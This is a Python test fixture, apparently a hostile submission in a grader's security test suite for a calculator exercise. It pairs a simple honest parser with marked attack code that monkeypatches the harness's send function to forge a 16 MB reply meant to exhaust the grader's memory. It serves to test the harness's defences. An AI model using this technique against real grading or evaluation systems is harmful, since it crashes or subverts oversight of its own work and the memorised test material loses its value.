"""Hostile submission `mem-huge-reply-tagged-dicts` for the `calculatrice` exercise (see tests/hostile).

Attack: the first time its honest part cannot read the expression, answers with a
16 MB reply frame of 600,000 tagged dicts ({"__t": "dict", ...}) that the grader's
decoder parses and then builds again as dicts: several hundred MB in the grader, which
the kernel killed.

Honest part: only + and -, read from left to right; it never raises: what it cannot read
gives 0.0. The attack sits between the `# --- attack ---` and
`# --- end of attack ---` markers; without them the file is its honest part, and what
that part earns is all this submission may ever get.
"""


# --- attack ---
import struct
import sys
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; 0.0 for anything it cannot read."""
    total = 0.0
    sign = 1.0
    number = ""
    try:
        for char in expression.replace(" ", ""):
            if char in "+-":
                if number:
                    total += sign * float(number)
                    number = ""
                sign = 1.0 if char == "+" else -1.0
            else:
                number += char
        if number:
            total += sign * float(number)
    except ValueError:
        return 0.0
    return total


def _readable(expression):
    try:
        float(expression.replace(" ", "").replace("+", " ").replace("-", " ").split()[0])
    except (ValueError, IndexError):
        return False
    return all(c in "0123456789.+- " for c in expression)

# --- attack ---


def _wire():
    """The harness's channel module, as imported in this process."""
    for module in list(sys.modules.values()):
        if hasattr(module, "MAX_FRAME") and hasattr(module, "send") and hasattr(module, "decode"):
            return module
    return None


def _forge_next_reply(frame):
    """Replace the next reply to the grader with these exact bytes."""
    wire = _wire()
    if wire is None:
        return
    real = wire.send

    def once(sock, message):
        wire.send = real
        sock.sendall(struct.pack(">I", len(frame)) + frame)

    wire.send = once


_FIRED = []
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    if not _readable(expression) and not _FIRED:
        _FIRED.append(True)
        _forge_next_reply(b'{"value": [' + b','.join([b'{"__t":"dict","v":[[1,2]]}'] * 600_000) + b']}')
    # --- end of attack ---
    return _honest(expression)
